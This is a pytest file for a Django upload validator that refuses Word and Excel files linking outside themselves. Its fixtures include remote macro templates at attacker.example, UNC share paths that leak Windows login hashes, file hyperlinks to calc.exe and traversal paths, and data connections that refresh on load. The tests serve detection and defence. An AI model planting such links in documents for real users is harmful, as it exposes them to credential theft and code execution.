"""A Word document or an Excel workbook that points outside itself is refused: a template
fetched from a server (its macros run, and a network-share path hands the reader's Windows
login hash to whoever runs the share), a linked or embedded object, a hyperlink to a file or
a share, Excel's links to other workbooks. What the relationship parts (`*.rels`) say is
read, in every one of them; ordinary web and e-mail links still pass."""

import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import Workbook

from campaign import uploads, workbooks
from tests.campaign.upload_files import refusal, word
from tests.campaign.workbooks.helpers import rewrite

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def rels(*relationships):
    """A relationship part holding `relationships`, each (type, target, external)."""
    items = "".join(
        f'<Relationship Id="rId{n}" Type="{OFFICE}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for n, (kind, target, external) in enumerate(relationships, start=1)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
        f'schemas.openxmlformats.org/package/2006/relationships">{items}</Relationships>'
    )


def settings_linking(*relationships):
    return word(
        ("word/settings.xml", "<w:settings xmlns:w='x'/>"),
        ("word/_rels/settings.xml.rels", rels(*relationships)),
    )


def document_linking(*relationships):
    return word(("word/_rels/document.xml.rels", rels(*relationships)))


@pytest.mark.parametrize(
    "target", ["http://attacker.example/template.dotm", r"\\attacker.example\share\t.dotm"]
)
def test_a_remote_template_is_refused(target):
    text = refusal("kh.docx", settings_linking(("attachedTemplate", target, True)))
    assert "liên kết tới nội dung bên ngoài" in text and "attacker.example" in text


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:/Users/vanthu/AppData/Roaming/Microsoft/Templates/Mẫu công văn.dotx",
        r"file:///D:\Mau\bao-cao.dotx",
        r"C:\Mau\ke-hoach.dotm",
        "file:///C:%5CUsers%5Cvanthu%5CMau.dotx",
        "file:///Users/vanthu/Library/Group%20Containers/Normal.dotm",  # Word for Mac
        "file://localhost/C:/Mau/bao-cao.dotx",
    ],
)
def test_a_template_on_the_authors_own_drive_is_accepted(target):
    # Word records the template a document was made from; on the reader's computer it
    # reaches no network. Refusing it would refuse many an office's documents.
    content = settings_linking(("attachedTemplate", target, True))
    assert uploads.validate_upload(SimpleUploadedFile("kh.docx", content)) == uploads.DOCX


@pytest.mark.parametrize(
    "target",
    [
        r"file:///\\host\share\t.dotx",
        "file:///%5C%5Chost%5Cshare%5Ct.dotx",
        "file:////host/share/t.dotx",
        "file://host/share/t.dotx",
        "file://localhost//host/share/t.dotx",
        "C:x.dotm",
    ],
)
def test_a_template_on_a_share_is_refused_however_written(target):
    text = refusal("kh.docx", settings_linking(("attachedTemplate", target, True)))
    assert "liên kết tới nội dung bên ngoài" in text


def test_a_linked_ole_object_is_refused():
    probe = document_linking(("oleObject", "file://attacker.example/share/sheet.xlsx", True))
    assert "liên kết tới nội dung bên ngoài" in refusal("kh.docx", probe)


@pytest.mark.parametrize(
    "kind", ["attachedTemplate", "oleObject", "frame", "subDocument", "package", "control"]
)
def test_templates_objects_and_subdocuments_are_refused_even_inside_the_file(kind):
    # The part it names is one a Word document may hold: what the relationship makes of it
    # (a macro template, an object that runs a program) is what is refused.
    probe = word(
        ("word/media/image1.png", b"\x89PNG"),
        ("word/_rels/document.xml.rels", rels((kind, "media/image1.png", False))),
    )
    text = refusal("kh.docx", probe)
    assert "macro" in text and kind in text


@pytest.mark.parametrize("kind", ["image", "header", "mailMergeSource"])
def test_any_other_relationship_outside_the_file_is_refused(kind):
    probe = document_linking((kind, "https://tracker.example/pixel.png", True))
    assert "liên kết tới nội dung bên ngoài" in refusal("kh.docx", probe)


def test_the_package_relationships_are_read_too():
    probe = word(("_rels/.rels", rels(("attachedTemplate", "http://a.example/t.dotm", True))))
    assert "liên kết tới nội dung bên ngoài" in refusal("kh.docx", probe)


@pytest.mark.parametrize(
    "target",
    [
        "file:///C:/Windows/System32/calc.exe",
        "FILE://host/share/x.docx",
        r"\\host\share\x.docx",
        "//host/share/x.docx",
        " \tfile://host/share/x.docx",
        "ms-word:ofe|u|https://a.example/x.docx",
        "..\\..\\x.exe",
    ],
)
def test_a_hyperlink_to_a_file_or_a_share_is_refused(target):
    probe = document_linking(("hyperlink", target, True))
    assert "liên kết tới nội dung bên ngoài" in refusal("kh.docx", probe)


def test_web_mail_and_telephone_hyperlinks_are_accepted():
    content = word(
        ("word/styles.xml", "<w:styles xmlns:w='x'/>"),
        (
            "word/_rels/document.xml.rels",
            rels(
                ("hyperlink", "https://thuvienphapluat.vn/van-ban/", True),
                ("hyperlink", "http://ldld.example.gov.vn/", True),
                ("hyperlink", "mailto:cspl@ldld.example.gov.vn", True),
                ("hyperlink", "tel:02753822123", True),
                ("styles", "styles.xml", False),
            ),
        ),
    )
    assert uploads.validate_upload(SimpleUploadedFile("kh.docx", content)) == uploads.DOCX


# --- Excel ---------------------------------------------------------------------------------------
def workbook(link=None):
    book = Workbook()
    book.active["A1"] = "Kết quả"
    if link:
        book.active["A2"].hyperlink = link
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def workbook_refusal(content):
    with translation.override("vi"), pytest.raises(workbooks.WorkbookError) as excinfo:
        workbooks.check_container(content)
    return str(excinfo.value)


def test_a_workbook_with_a_web_link_is_accepted():
    workbooks.check_container(workbook("https://thuvienphapluat.vn/"))


def test_a_workbook_linking_to_a_share_is_refused():
    assert "liên kết tới nội dung bên ngoài" in workbook_refusal(
        workbook(r"file://attacker.example/share/x.xlsx")
    )


def test_a_workbook_linking_to_another_workbook_is_refused():
    # Excel's own link to another workbook: a relationship to an externalLink part (the part
    # itself would be refused as a stranger; the relationship alone is refused too).
    content = rewrite(
        workbook(),
        "xl/_rels/workbook.xml.rels",
        lambda text: text.replace(
            "</Relationships>",
            f'<Relationship Id="rId99" Type="{OFFICE}/externalLink" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
        ),
    )
    assert "externalLink" in workbook_refusal(content)


def test_a_workbook_with_data_connections_is_refused():
    # A data connection reads a share or a server when refreshed (on opening, if it says
    # so): the portal's template has none, and a filled-in copy needs none.
    connections = (
        '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<connection id="1" name="q" type="6" refreshOnLoad="1">'
        r'<textPr sourceFile="\\attacker.example\share\data.txt"/></connection></connections>'
    )
    buffer = BytesIO()
    with (
        zipfile.ZipFile(BytesIO(workbook())) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            target.writestr(info, source.read(info))
        target.writestr("xl/connections.xml", connections)
    assert "connections.xml" in workbook_refusal(buffer.getvalue())
